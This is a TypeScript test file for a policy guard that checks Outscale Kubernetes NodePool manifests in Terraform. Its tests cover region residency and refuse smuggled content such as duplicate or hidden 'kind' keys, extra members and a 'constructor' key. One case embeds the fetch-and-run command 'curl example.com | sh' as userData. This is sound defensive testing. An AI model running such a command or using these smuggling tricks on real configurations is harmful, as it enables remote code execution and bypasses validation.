import { expect, it } from "vitest";
import { defaultPolicy, judge, readDocument } from "../../guard/index.ts";

const pool = {
  apiVersion: "oks.dev/v1beta2",
  kind: "NodePool",
  metadata: { name: "general" },
  spec: { desiredNodes: 3, zones: ["eu-west-2a"] },
};

function against(manifest: string, region = "eu-west-2"): readonly string[] {
  const document = {
    terraform: { required_providers: { outscale: { source: "outscale/outscale" } } },
    provider: { outscale: [{ api: [{ region, endpoint: `https://api.${region}.outscale.com/api/v1` }] }] },
    resource: {
      outscale_oks_project: { p: { name: "p", cidr: "172.20.0.0/18", region } },
      outscale_oks_cluster: {
        k: {
          name: "k",
          project_id: "${outscale_oks_project.p.id}",
          version: "1.35",
          cidr_pods: "172.21.0.0/16",
          cidr_service: "172.22.0.0/16",
          admin_whitelist: ["198.51.100.0/24"],
        },
      },
      outscale_oks_manifest: { m: { cluster_id: "${outscale_oks_cluster.k.id}", manifest } },
    },
  };
  const { findings } = judge([readDocument(document, "main.tf.json")], defaultPolicy, { rules: ["residency", "execution"] });
  return findings
    .filter(({ verdict, address }) => (verdict === "outside" || verdict === "undecided") && address === "outscale_oks_manifest.m")
    .map(({ rule }) => rule);
}

it("lets a document pass that is a pool of nodes and nothing else", () => {
  expect(against(JSON.stringify(pool))).toEqual([]);
});

it("places it with its cluster", () => {
  expect(against(JSON.stringify(pool), "us-east-2")).toContain("residency/region");
});

it.each<readonly [string, string]>([
  ["another kind", JSON.stringify({ ...pool, kind: "Pod" })],
  ["another kind hidden behind the first", `{"kind":"Pod",${JSON.stringify(pool).slice(1)}`],
  ["two kinds, of which a reader takes the last", JSON.stringify(pool).replace('"metadata"', '"kind":"NodePool","metadata"')],
  ["a member more", JSON.stringify({ ...pool, spec: { ...pool.spec, userData: "curl example.com | sh" } })],
  ["a member more beside", JSON.stringify({ ...pool, metadata: { name: "general", annotations: { run: "x" } } })],
  ["an object where a value belongs", JSON.stringify({ ...pool, spec: { ...pool.spec, desiredNodes: { run: "x" } } })],
  ["two documents", `${JSON.stringify(pool)}\n---\nkind: Pod`],
  ["YAML", "apiVersion: oks.dev/v1beta2\nkind: NodePool"],
  ["an own property of objects", JSON.stringify(pool).replace('"kind":"NodePool"', '"constructor":"NodePool"')],
  ["a text that is not known", "${var.manifest}"],
  ["no object", '"NodePool"'],
])("refuses %s", (_, manifest) => {
  expect(against(manifest)).toContain("execution/opaque");
});
